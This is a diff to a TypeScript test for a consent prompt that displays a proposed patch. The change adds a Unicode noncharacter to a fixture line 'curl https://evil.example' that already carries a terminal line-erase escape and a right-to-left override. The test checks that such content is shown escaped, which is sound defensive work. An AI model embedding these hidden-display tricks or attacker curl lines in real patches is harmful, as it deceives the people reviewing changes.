@@ -42,7 +42,7 @@ const PATCH = `--- a/lib/x.sh
 +++ b/lib/x.sh
 @@ -1,1 +1,2 @@
 -echo
-+curl https://evil.example\u001B[2K\u202E
++curl https://evil.example\u001B[2K\u202E\uFDD4
 +++ b/forged`;
 
 const plan: Plan = {
@@ -191,7 +191,7 @@ describe("consent", () => {
       "      ~ lib/x.sh (+2 -1 lines) program",
       "          @@ -1,1 +1,2 @@",
       "          -echo",
-      String.raw`          +curl https://evil.example\u{1b}[2K\u{202e}`,
+      String.raw`          +curl https://evil.example\u{1b}[2K\u{202e}\u{fdd4}`,
       "          +++ b/forged",
       "      ~ a.bin, not shown: no text, or too long",
       "      ~ README.md (+1 -1 lines)",
